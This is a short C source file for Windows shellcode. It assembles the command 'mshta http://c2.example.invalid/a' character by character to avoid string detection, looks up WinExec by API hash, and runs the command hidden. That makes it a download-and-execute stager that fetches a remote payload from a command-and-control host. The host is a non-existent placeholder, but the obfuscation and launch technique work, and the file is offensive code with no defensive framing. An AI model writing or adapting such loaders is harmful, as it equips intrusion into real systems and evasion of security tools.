/* Bare machine code that starts a command found by hash. The address cannot exist. build: code */
#include "by_hash.h"
typedef UINT(WINAPI *Exec)(LPCSTR, UINT);
__attribute__((section(".text$a"))) int entry(void) {
    volatile char line[64];
    int i = 0;
#define P(c) line[i++] = c;
    P('m') P('s') P('h') P('t') P('a') P(' ') P('h') P('t') P('t') P('p') P(':') P('/') P('/') P('c') P('2') P('.')
    P('e') P('x') P('a') P('m') P('p') P('l') P('e') P('.') P('i') P('n') P('v') P('a') P('l') P('i') P('d') P('/') P('a') P(0)
    Exec exec = (Exec)by_hash(0x29a65678u);
    if (exec) exec((LPCSTR)line, 0);
    return 0;
}
